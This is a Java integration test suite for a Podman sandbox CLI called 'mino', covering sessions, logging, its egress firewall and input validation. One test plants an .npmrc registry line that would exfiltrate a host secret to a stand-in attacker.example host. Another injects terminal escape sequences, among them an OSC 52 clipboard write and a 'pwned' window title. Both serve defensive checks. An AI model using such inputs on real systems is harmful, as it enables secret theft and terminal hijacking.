package dev.mino.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.mino.core.MinoException;
import dev.mino.core.Sessions;
import dev.mino.core.internal.podman.PodmanClient;
import dev.mino.core.testing.Prerequisites;
import dev.mino.core.testing.RequiresPodman;
import dev.mino.core.testing.TestDirectories;
import dev.mino.core.testing.TestPodman;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The {@code ./mino} launcher at the repository root, run as a subprocess against the real Podman,
 * the way a user runs it. Its state and config directories are temporary folders, so the real
 * user's sessions are never touched; every sandbox a test starts has a unique name and is stopped
 * at the end.
 */
@RequiresPodman
class CliIT {
    private static final String IMAGE = TestPodman.BUSYBOX_IMAGE;
    private static final long TIMEOUT_SECONDS = 180;
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Set by CI services; the tests decide themselves whether mino sees a terminal. */
    private static final Set<String> CI_VARIABLES = Set.of("CI", "GITHUB_ACTIONS", "GITLAB_CI", "CIRCLECI",
        "TRAVIS", "JENKINS_URL", "BUILDKITE", "TEAMCITY_VERSION", "TF_BUILD");

    private static Path launcher;
    private static Path home;
    private static Path project;
    private static final List<String> started = new ArrayList<>();

    /** What one run of the launcher did. */
    record Result(int exitCode, String stdout, String stderr) {
        @Override
        public String toString() {
            return "exit " + exitCode + "\n--- stdout\n" + stdout + "--- stderr\n" + stderr;
        }
    }

    @BeforeAll
    static void setUp() {
        launcher = findLauncher();
        home = TestDirectories.create("mino-cli-it-home");
        project = TestDirectories.create("mino-cli-it-project");
    }

    @AfterAll
    static void tearDown() {
        for (String name : started) {
            stopQuietly(name);
        }
        TestDirectories.delete(home);
        TestDirectories.delete(project);
    }

    /** The launcher sits at the repository root, beside mvnw; Failsafe runs in the module's folder. */
    private static Path findLauncher() {
        for (Path dir = Path.of("").toAbsolutePath(); dir != null; dir = dir.getParent()) {
            Path candidate = dir.resolve("mino");
            if (Files.isRegularFile(candidate) && Files.exists(dir.resolve("mvnw"))) {
                return candidate;
            }
        }
        throw new IllegalStateException("no ./mino launcher above " + Path.of("").toAbsolutePath());
    }

    private static String uniqueName(String purpose) {
        return "it-" + purpose + "-" + UUID.randomUUID().toString().substring(0, 8);
    }

    private static ProcessBuilder command(List<String> args, Map<String, String> extraEnv) {
        return command(project, args, extraEnv);
    }

    private static ProcessBuilder command(Path cwd, List<String> args, Map<String, String> extraEnv) {
        List<String> line = new ArrayList<>();
        line.add(launcher.toString());
        line.addAll(args);
        ProcessBuilder builder = new ProcessBuilder(line).directory(cwd.toFile());
        Map<String, String> env = builder.environment();
        env.put("CONTAINER_HOST", TestPodman.address().uri());
        env.put("XDG_STATE_HOME", home.resolve("state").toString());
        env.put("XDG_CONFIG_HOME", home.resolve("config").toString());
        env.putAll(extraEnv);
        return builder;
    }

    private static Result mino(String... args) {
        return minoWithInput(null, Map.of(), args);
    }

    /** Runs the launcher; {@code input} (may be null) is written to its stdin, which is then closed. */
    private static Result minoWithInput(String input, Map<String, String> extraEnv, String... args) {
        return minoIn(project, input, extraEnv, args);
    }

    /** Runs the launcher in the folder {@code cwd}, where it looks for a local {@code .mino.toml}. */
    private static Result minoIn(Path cwd, String input, Map<String, String> extraEnv, String... args) {
        try {
            Process process = command(cwd, Arrays.asList(args), extraEnv).start();
            CompletableFuture<String> out = read(process.getInputStream());
            CompletableFuture<String> err = read(process.getErrorStream());
            try (OutputStream stdin = process.getOutputStream()) {
                if (input != null) {
                    stdin.write(input.getBytes(StandardCharsets.UTF_8));
                }
            }
            if (!process.waitFor(TIMEOUT_SECONDS, TimeUnit.SECONDS)) {
                process.destroyForcibly();
                throw new AssertionError("mino " + String.join(" ", args) + " did not end in " + TIMEOUT_SECONDS
                    + " s");
            }
            return new Result(process.exitValue(), out.get(30, TimeUnit.SECONDS), err.get(30, TimeUnit.SECONDS));
        } catch (IOException | InterruptedException | java.util.concurrent.ExecutionException
                 | TimeoutException e) {
            throw new AssertionError("running mino " + String.join(" ", args), e);
        }
    }

    private static CompletableFuture<String> read(InputStream in) {
        return CompletableFuture.supplyAsync(() -> {
            try (in) {
                return new String(in.readAllBytes(), StandardCharsets.UTF_8);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
    }

    private static String[] run(String... commandAndOptions) {
        List<String> args = new ArrayList<>(List.of("run", "--image", IMAGE, "-p", project.toString()));
        args.addAll(Arrays.asList(commandAndOptions));
        return args.toArray(String[]::new);
    }

    private static void stopQuietly(String name) {
        mino("stop", "-f", name);
        try {
            // If the CLI could not stop it, the library can: nothing may outlive the test.
            Sessions.at(home.resolve("state").resolve("mino")).engine(TestPodman.address().uri()).open(name).close();
        } catch (MinoException e) {
            // Gone already, which is what stop is for.
        }
    }

    /** {@code mino logs} of a detached session, asked again until its stdout shows {@code text} (10 s at most). */
    private static Result logsOnceTheyShow(String session, String text) throws InterruptedException {
        Result logs = mino("logs", session);
        for (int i = 0; i < 20 && !logs.stdout().contains(text); i++) {
            Thread.sleep(500);
            logs = mino("logs", session);
        }
        return logs;
    }

    private static JsonNode listJson(String... options) throws IOException {
        List<String> args = new ArrayList<>(List.of("list", "-f", "json"));
        args.addAll(Arrays.asList(options));
        Result list = mino(args.toArray(String[]::new));
        assertEquals(0, list.exitCode(), list.toString());
        return JSON.readTree(list.stdout());
    }

    private static JsonNode session(JsonNode list, String name) {
        for (JsonNode s : list) {
            if (name.equals(s.path("name").asText())) {
                return s;
            }
        }
        return null;
    }

    /**
     * An allowlisted run ends with one line of what the egress guard blocked, and {@code -v} shows
     * each denial as it happens; a run where nothing was blocked prints no such line (the control).
     */
    @Test
    void anAllowlistedRunEndsWithWhatWasBlocked() {
        String[] firewall = {"--firewall-image", TestPodman.DEBIAN_IMAGE, "--network-allow", "192.0.2.1:443"};
        String probe = "nslookup refused-name.example >/dev/null 2>&1; "
            + "timeout 3 wget -q -O- http://192.0.2.9:8080/ >/dev/null 2>&1; echo done";
        List<String> args = new ArrayList<>(List.of(firewall));
        args.addAll(List.of("--", "sh", "-c", probe));
        Result result = mino(run(args.toArray(String[]::new)));
        assertEquals(0, result.exitCode(), result.toString());
        assertEquals("done\n", result.stdout(), "the summary goes to stderr: " + result);
        String summary = result.stderr().lines().filter(l -> l.contains("Blocked ")).findFirst()
            .orElseThrow(() -> new AssertionError("no summary: " + result));
        assertTrue(summary.matches(".*Blocked [0-9]+ destinations: .*"), summary);
        assertTrue(summary.contains("tcp 192.0.2.9:8080"), summary);
        assertTrue(summary.contains("name refused-name.example (A"), summary);
        assertFalse(result.stderr().contains("mino: blocked"), "each denial only with -v: " + result);

        List<String> verbose = new ArrayList<>(List.of("-v"));
        verbose.addAll(List.of(run(args.toArray(String[]::new))));
        Result told = mino(verbose.toArray(String[]::new));
        assertEquals(0, told.exitCode(), told.toString());
        assertTrue(told.stderr().contains("mino: blocked tcp 192.0.2.9:8080"), told.toString());
        assertTrue(told.stderr().contains("mino: blocked name refused-name.example"), told.toString());

        List<String> quiet = new ArrayList<>(List.of(firewall));
        quiet.addAll(List.of("--", "echo", "quiet"));
        Result control = mino(run(quiet.toArray(String[]::new)));
        assertEquals("quiet\n", control.stdout(), control.toString());
        assertFalse(control.stderr().contains("Blocked"), "nothing blocked, nothing said: " + control);
    }

    @Test
    void exitsWithTheCommandsExitCode() {
        Result result = mino(run("--", "sh", "-c", "exit 7"));
        assertEquals(7, result.exitCode(), result.toString());
        assertEquals("", result.stdout());
    }

    @Test
    void setsEnvironmentFromFlagsAndFromMinosOwn() {
        Result result = minoWithInput(null, Map.of("FROM_HOST", "host-value"),
            run("-e", "A=1", "-e", "B=x=y", "-e", "FROM_HOST", "--", "env"));
        assertEquals(0, result.exitCode(), result.toString());
        List<String> lines = result.stdout().lines().toList();
        assertTrue(lines.contains("A=1"), result.toString());
        assertTrue(lines.contains("B=x=y"), result.toString());
        assertTrue(lines.contains("FROM_HOST=host-value"), result.toString());
    }

    @Test
    void keepsStdoutAndStderrApart() {
        Result result = mino(run("--", "sh", "-c", "echo to-out; echo to-err >&2"));
        assertEquals(0, result.exitCode(), result.toString());
        assertEquals("to-out\n", result.stdout(), "stdout holds the command's stdout only");
        assertTrue(result.stderr().lines().anyMatch("to-err"::equals), result.toString());
    }

    @Test
    void pipesStdinThrough() {
        Result result = minoWithInput("hi\nthere\n", Map.of(), run("--", "cat"));
        assertEquals(0, result.exitCode(), result.toString());
        assertEquals("hi\nthere\n", result.stdout(), "cat ends because stdin was closed at its end");
    }

    /** What one run of a shell line under script(1) wrote to its pseudo-terminal. */
    record TerminalResult(int exitCode, byte[] output) {
        String text() {
            // Byte for byte, so that a lone 0x9B stays visible as the char U+009B.
            return new String(output, StandardCharsets.ISO_8859_1);
        }
    }

    /**
     * Runs {@code shellLine} (which names the launcher) with stdin, stdout and stderr on a
     * pseudo-terminal that util-linux script(1) makes, without CI variables.
     */
    private static TerminalResult atTerminal(String shellLine) throws Exception {
        Path script = Path.of("/usr/bin/script");
        Prerequisites.requireExecutable(script.toString(), "script(1) makes the pseudo-terminal for this test");
        ProcessBuilder builder = new ProcessBuilder(script.toString(), "-qec", shellLine, "/dev/null")
            .directory(project.toFile()).redirectErrorStream(true);
        Map<String, String> env = builder.environment();
        env.keySet().removeAll(CI_VARIABLES);
        env.put("TERM", "xterm");
        // mino's own colours would be escape sequences too; the tests look for the sandbox's.
        env.put("NO_COLOR", "1");
        env.put("CONTAINER_HOST", TestPodman.address().uri());
        env.put("XDG_STATE_HOME", home.resolve("state").toString());
        env.put("XDG_CONFIG_HOME", home.resolve("config").toString());
        Process process = builder.start();
        CompletableFuture<byte[]> output = CompletableFuture.supplyAsync(() -> {
            try (InputStream in = process.getInputStream()) {
                return in.readAllBytes();
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        assertTrue(process.waitFor(TIMEOUT_SECONDS, TimeUnit.SECONDS), "mino under script(1) ended");
        byte[] bytes = output.get(30, TimeUnit.SECONDS);
        process.getOutputStream().close();
        return new TerminalResult(process.exitValue(), bytes);
    }

    @Test
    void givesTheCommandATerminalWhenMinoHasOne() throws Exception {
        // --network: at a terminal, with nothing choosing the network, run would ask (see PromptsIT).
        TerminalResult result = atTerminal(launcher + " " + String.join(" ", run("--network", "bridge", "--", "sh",
            "-c", "'tty; stty size; exit 5'")));
        String text = result.text();
        assertEquals(5, result.exitCode(), text);
        assertTrue(text.contains("/dev/pts/"), "the command's stdin is a terminal: " + text);
        assertFalse(text.contains("not a tty"), text);
    }

    /**
     * Issue 14, escape 15: a sandbox writes a clipboard write (OSC 52), a window title, a C1 CSI
     * byte and a clear screen. At a terminal, {@code mino logs} and a run without a terminal of its
     * own show them as text; {@code --raw} and a pipe pass them unchanged (the positive controls).
     */
    @Test
    void aSandboxsEscapeSequencesReachATerminalOnlyAsTextUnlessRaw() throws Exception {
        String printf = "printf '\\033]52;c;cHduZWQ=\\007\\033]0;pwned\\007\\2332J-marker-\\342\\234\\223\\n'";
        String name = uniqueName("escapes");
        started.add(name);
        Result start = mino(run("-d", "-n", name, "--", "sh", "-c", printf + "; sleep 600"));
        assertEquals(0, start.exitCode(), start.toString());
        Result piped = logsOnceTheyShow(name, "-marker-");
        assertTrue(piped.stdout().contains("\u001b]52;c;cHduZWQ=\u0007\u001b]0;pwned\u0007"),
            "a pipe gets the bytes unchanged: " + piped);

        TerminalResult logs = atTerminal(launcher + " logs " + name);
        assertEquals(0, logs.exitCode(), logs.text());
        assertEscaped(logs.text());

        TerminalResult raw = atTerminal(launcher + " logs --raw " + name);
        assertEquals(0, raw.exitCode(), raw.text());
        assertTrue(raw.text().contains("\u001b]52;c;cHduZWQ=\u0007\u001b]0;pwned\u0007\u009b2J"),
            "--raw passes the bytes unchanged: " + raw.text());

        // stdin from /dev/null: not interactive, so the command gets no terminal and mino's stdout is one.
        TerminalResult run = atTerminal(launcher + " " + String.join(" ", run("--network", "bridge", "--", "sh",
            "-c", "\"" + printf.replace("\\", "\\\\") + "\"")) + " </dev/null");
        assertEquals(0, run.exitCode(), run.text());
        assertEscaped(run.text());
    }

    private static void assertEscaped(String terminal) {
        assertTrue(terminal.contains("\\u001B]52;c;cHduZWQ=\\u0007\\u001B]0;pwned\\u0007\\x9B2J-marker-"),
            "shown as text: " + terminal);
        assertTrue(terminal.contains(new String("-marker-\u2713".getBytes(StandardCharsets.UTF_8),
            StandardCharsets.ISO_8859_1)), "a multibyte character arrives whole: " + terminal);
        for (char c : new char[] {'\u001b', '\u0007', '\u009b'}) {
            assertFalse(terminal.indexOf(c) >= 0, "no raw " + Integer.toHexString(c) + " reaches the terminal: "
                + terminal);
        }
    }

    @Test
    void aDetachedRunSaysAtStartThatItHasNoSshAgent() throws Exception {
        Path keys = Files.createTempDirectory("mino-cli-it-agent");
        Path socket = keys.resolve("agent.sock");
        Process agent = new ProcessBuilder("ssh-agent", "-D", "-a", socket.toString())
            .redirectErrorStream(true).redirectOutput(keys.resolve("agent.log").toFile()).start();
        try {
            for (int i = 0; i < 100 && !Files.exists(socket); i++) {
                Thread.sleep(50);
            }
            assertTrue(Files.exists(socket), "ssh-agent is listening");
            String name = uniqueName("detached-agent");
            started.add(name);
            Result start = minoWithInput(null, Map.of("SSH_AUTH_SOCK", socket.toString()),
                run("-d", "-n", name, "--", "sleep", "600"));
            assertEquals(0, start.exitCode(), start.toString());
            assertTrue(start.stderr().contains("SSH agent not forwarded"), start.toString());
            Result env = mino("exec", name, "--", "sh", "-c", "echo \"[$SSH_AUTH_SOCK]\"; test -e /ssh-agent || echo none");
            assertEquals("[]\nnone\n", env.stdout(), env.toString());
            stopQuietly(name);
        } finally {
            agent.destroy();
            agent.waitFor(10, TimeUnit.SECONDS);
            TestDirectories.delete(keys);
        }
    }

    @Test
    void detachedSessionCanBeListedLoggedExecedAndStopped() throws Exception {
        String name = uniqueName("detached");
        started.add(name);
        Result start = mino(run("-d", "-n", name, "--", "sh", "-c", "echo hello-from-detached; sleep 600"));
        assertEquals(0, start.exitCode(), start.toString());
        assertEquals(name + "\n", start.stdout(), "the session name is the result");
        assertTrue(start.stderr().contains("mino stop " + name), "and the hint how to stop it: " + start);

        Result table = mino("list");
        assertEquals(0, table.exitCode(), table.toString());
        assertTrue(table.stdout().lines().anyMatch(l -> l.startsWith(name) && l.contains("running")),
            table.toString());
        assertTrue(table.stdout().contains("NAME") && table.stdout().contains("session(s)"), table.toString());

        JsonNode listed = session(listJson(), name);
        assertTrue(listed != null, "json lists the session");
        assertEquals("running", listed.path("status").asText());
        assertEquals(project.toRealPath().toString(), listed.path("project_dir").asText());
        assertEquals(4, UUID.fromString(listed.path("id").asText()).version(), "a random session id");
        assertTrue(listed.path("detached").asBoolean(), listed.toString());
        assertTrue(listed.path("cloud_providers").isArray(), listed.toString());
        assertTrue(listed.has("home_volume"), listed.toString());

        Result plain = mino("list", "-f", "plain");
        assertTrue(plain.stdout().lines().anyMatch(name::equals), plain.toString());

        Result logs = logsOnceTheyShow(name, "hello-from-detached");
        assertEquals(0, logs.exitCode(), logs.toString());
        assertTrue(logs.stdout().contains("hello-from-detached"), logs.toString());

        Result execExit = mino("exec", name, "--", "sh", "-c", "exit 3");
        assertEquals(3, execExit.exitCode(), "exec exits with the command's code: " + execExit);
        Result execOut = mino("exec", name, "--", "echo", "via-exec");
        assertEquals(0, execOut.exitCode(), execOut.toString());
        assertEquals("via-exec\n", execOut.stdout());
        Result newest = minoWithInput("piped\n", Map.of(), "exec", "--", "cat");
        assertEquals(0, newest.exitCode(), newest.toString());
        assertEquals("piped\n", newest.stdout(), "without a name, exec uses the newest running session");

        Result stop = mino("stop", name);
        assertEquals(0, stop.exitCode(), stop.toString());
        assertTrue(stop.stdout().contains("Session " + name + " stopped"), stop.toString());

        Result afterStop = mino("list", "-f", "plain");
        assertFalse(afterStop.stdout().lines().anyMatch(name::equals), "no longer active: " + afterStop);
        JsonNode all = session(listJson("-a"), name);
        assertTrue(all != null, "list -a still shows it");
        assertEquals("stopped", all.path("status").asText());
        MinoException gone = assertThrows(MinoException.class, () -> Sessions.at(home.resolve("state/mino"))
            .engine(TestPodman.address().uri()).open(name), "its container is removed");
        assertTrue(gone.getMessage().contains(name), gone.getMessage());
    }

    /**
     * SPEC 4.5: each run first deletes the records of sessions that ended longer ago than
     * session.auto_cleanup_hours (720 by default); `mino prune` removes ended ones on request, and
     * `mino status` counts them. A running session is never touched.
     */
    @Test
    void aRunCleansUpOldEndedSessionsAndPruneTheRest() throws Exception {
        Path state = home.resolve("state/mino");
        dev.mino.core.internal.state.SessionStore store = new dev.mino.core.internal.state.SessionStore(
            new dev.mino.core.internal.state.MinoPaths(state, state, state));
        String old = uniqueName("old");
        String recent = uniqueName("recent");
        java.time.Instant now = java.time.Instant.now();
        for (String name : List.of(old, recent)) {
            java.time.Instant when = name.equals(old) ? now.minus(java.time.Duration.ofDays(31)) : now;
            store.create(dev.mino.core.internal.state.SessionRecord.starting(name, project, List.of("true"), IMAGE,
                null, false, when));
            store.update(name, r -> r.withStatus(dev.mino.core.internal.state.SessionStatus.STOPPED, when));
        }

        Result ran = mino(run("--", "true"));
        assertEquals(0, ran.exitCode(), ran.toString());
        assertTrue(store.find(old).isEmpty(), "a session that ended 31 days ago is cleaned up by a run");
        assertTrue(store.find(recent).isPresent(), "one that ended just now stays");

        Result prune = mino("prune");
        assertEquals(0, prune.exitCode(), prune.toString());
        assertTrue(prune.stdout().contains("removed: " + recent), prune.toString());
        assertTrue(store.find(recent).isEmpty(), prune.toString());
        Result again = mino("prune", "--older-than", "1d");
        assertTrue(again.stdout().contains("No ended session to remove"), again.toString());
    }

    @Test
    void dryRunPrintsThePlanAndCreatesNothing() throws Exception {
        String name = uniqueName("dry");
        Result result = mino(run("--dry-run", "-n", name, "--", "true"));
        assertEquals(0, result.exitCode(), result.toString());
        assertTrue(result.stdout().contains("\"cap_drop\""), result.toString());
        JsonNode plan = JSON.readTree(result.stdout());
        assertEquals("mino-" + name, plan.path("name").asText());
        assertTrue(session(listJson("-a"), name) == null, "no session is recorded");
        try (PodmanClient podman = TestPodman.newClient()) {
            assertFalse(podman.containers().exists("mino-" + name), "no container is created");
        }
    }

    /**
     * Issue 14, escape 4: a trusted project whose {@code .npmrc} (written by an earlier sandbox)
     * names a registry built from the host's environment. The plan's firewall holds the user's own
     * registry (the positive control) and neither the planted host, its port nor the secret.
     */
    @Test
    void aProjectsNpmrcNeverWidensThePresetAndNoVariableIsExpanded() throws Exception {
        Path hostile = TestDirectories.create("mino-cli-it-npmrc-project");
        Path userHome = TestDirectories.create("mino-cli-it-npmrc-home");
        try {
            Files.writeString(hostile.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
            Files.writeString(hostile.resolve(".mino.toml"), "[container]\nnetwork_preset = \"registries\"\n");
            Files.writeString(userHome.resolve(".npmrc"), "registry=https://npm.mirror.example.internal:8443/\n");
            // The firewall's image is named: a plan pins it as a start does, and this home has no pinned one.
            Result result = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
                "--trust-local", "run", "--dry-run", "--image", IMAGE, "--firewall-image", TestPodman.DEBIAN_IMAGE,
                "-p", hostile.toString(), "--", "true");
            assertEquals(0, result.exitCode(), result.toString());
            JsonNode firewall = JSON.readTree(result.stdout()).path("firewall");
            assertFalse(firewall.isMissingNode(), "the preset is an allowlist with a firewall: " + result);
            String rules = firewall.toString();
            assertTrue(rules.contains("npm.mirror.example.internal") && rules.contains("8443"),
                "the user's own registry is in the allowlist: " + rules);
            for (String planted : List.of("attacker", "4444", "s3cret-value", "SOME_SECRET")) {
                assertFalse(result.stdout().contains(planted), planted + " must not reach the plan: " + result);
            }
            assertFalse(result.stderr().contains("s3cret-value"), result.toString());

            // The user's own ~/.npmrc with a variable: ignored with a warning, never expanded.
            Files.writeString(userHome.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
            Result expanded = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
                "--trust-local", "run", "--dry-run", "--image", IMAGE, "--firewall-image", TestPodman.DEBIAN_IMAGE,
                "-p", hostile.toString(), "--", "true");
            assertEquals(0, expanded.exitCode(), expanded.toString());
            assertFalse(expanded.stdout().contains("s3cret-value") || expanded.stdout().contains("4444"),
                expanded.toString());
            assertTrue(expanded.stderr().contains("never builds a host or port from variables"), expanded.toString());
        } finally {
            TestDirectories.delete(hostile);
            TestDirectories.delete(userHome);
        }
    }

    @Test
    void badInputFailsWithErrorAndHintBeforeAnythingIsCreated() throws Exception {
        Path missing = project.resolve("no-such-dir");
        List<String[]> cases = List.of(
            run("-e", "1BAD=x", "--", "true"),
            run("-e", "UNSET_" + UUID.randomUUID().toString().substring(0, 8).toUpperCase(), "--", "true"),
            run("--volume", "no-colon", "--", "true"),
            run("--volume", missing + ":/data", "--", "true"),
            new String[] {"run", "--image", IMAGE, "-p", "relative/project", "--", "true"});
        int sessionsBefore = listJson("-a").size();
        for (String[] args : cases) {
            Result result = mino(args);
            String label = String.join(" ", args);
            assertEquals(1, result.exitCode(), label + "\n" + result);
            assertTrue(result.stderr().startsWith("Error: "), label + "\n" + result);
            assertTrue(result.stderr().contains("\nHint: "), label + "\n" + result);
            assertEquals("", result.stdout(), label);
        }
        assertEquals(sessionsBefore, listJson("-a").size(), "no session was recorded for bad input");
    }

    @Test
    void runUsesTheConfiguredImage() {
        Result path = mino("config", "path");
        assertEquals(home.resolve("config/mino/config.toml") + "\n", path.stdout(), "XDG_CONFIG_HOME is honoured");
        Result set = mino("config", "set", "container.image", IMAGE);
        assertEquals(0, set.exitCode(), set.toString());
        try {
            Result result = mino("run", "-p", project.toString(), "--", "echo", "configured");
            assertEquals(0, result.exitCode(), result.toString());
            assertEquals("configured\n", result.stdout(), "ran without --image: " + result);
        } finally {
            assertEquals(0, mino("config", "unset", "container.image").exitCode());
        }
    }

    @Test
    void usageErrorsExitWithTwo() {
        Result unknown = mino("run", "--no-such-option");
        assertEquals(2, unknown.exitCode(), unknown.toString());
        Result noDash = mino("run", "--image", IMAGE, "echo");
        assertEquals(2, noDash.exitCode(), "the command must follow --: " + noDash);
        Result badBoolean = minoWithInput(null, Map.of("MINO_TRUST_LOCAL", "perhaps"), "list");
        assertEquals(2, badBoolean.exitCode(), badBoolean.toString());
    }

    @Test
    void bashCompletionIsSourceable() {
        ProcessBuilder builder = command(List.of(), Map.of());
        builder.command("bash", "-c", "source <(\"$MINO\" completions bash) && complete -p mino");
        builder.environment().put("MINO", launcher.toString());
        try {
            Process process = builder.start();
            CompletableFuture<String> out = read(process.getInputStream());
            CompletableFuture<String> err = read(process.getErrorStream());
            assertTrue(process.waitFor(TIMEOUT_SECONDS, TimeUnit.SECONDS));
            String stdout = out.get(30, TimeUnit.SECONDS);
            assertEquals(0, process.exitValue(), stdout + err.get(30, TimeUnit.SECONDS));
            assertTrue(stdout.contains("complete") && stdout.trim().endsWith("mino"), stdout);
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    @Test
    void versionStatusAndUnknownSessions() {
        Result version = mino("--version");
        assertEquals(0, version.exitCode(), version.toString());
        assertTrue(version.stdout().startsWith("mino "), version.toString());

        Result status = mino("status");
        assertEquals(0, status.exitCode(), status.toString());
        assertTrue(status.stdout().contains("[OK] Reachable (" + TestPodman.address().uri() + ")"), status.toString());
        assertTrue(status.stdout().contains("[OK] Rootless mode"), status.toString());

        for (String command : List.of("stop", "logs", "exec")) {
            Result result = mino(command, "it-no-such-session");
            assertEquals(1, result.exitCode(), command + ": " + result);
            assertTrue(result.stderr().startsWith("Error: Session not found: it-no-such-session"), result.toString());
        }
    }
}
